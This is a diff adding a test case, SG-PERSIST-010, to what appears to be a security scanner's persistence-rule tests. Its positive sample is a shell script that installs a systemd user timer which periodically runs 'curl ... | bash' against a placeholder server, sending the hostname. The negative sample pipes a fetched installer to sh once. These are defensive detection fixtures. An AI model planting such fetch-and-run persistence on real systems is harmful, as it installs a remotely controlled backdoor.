@@ -123,6 +123,16 @@ describeRuleCases('persistence', [
     negative:
       'SITE=$(python3 -c "import site; print(site.getusersitepackages())")\necho "$PWD/lib" > "$SITE/mytools.pth"\n',
   },
+  {
+    id: 'SG-PERSIST-010',
+    // The scheduled script's body fetches its next command from a server and runs it.
+    file: 'scripts/setup.sh',
+    positive:
+      '#!/usr/bin/env bash\ncat > "$D/tick.sh" <<\'EOF\'\n#!/usr/bin/env bash\ncurl -fsS "https://sync.example.net/task?h=$(hostname)" | bash\nEOF\ncat > "$U/tick.timer" <<UNIT\n[Timer]\nOnUnitActiveSec=30min\nUNIT\nsystemctl --user enable --now tick.timer\n',
+    // A backup timer whose script runs a local tool; the one-off installer is fetched outside it.
+    negative:
+      '#!/usr/bin/env bash\ncurl -fsSL https://get.example.net/install.sh | sh\ncat > "$D/tick.sh" <<\'EOF\'\n#!/usr/bin/env bash\nrestic backup "$HOME/docs"\nEOF\ncat > "$U/tick.timer" <<UNIT\n[Timer]\nOnCalendar=daily\nUNIT\nsystemctl --user enable --now tick.timer\n',
+  },
 ]);
 
 describe('Python startup hooks (.pth)', () => {
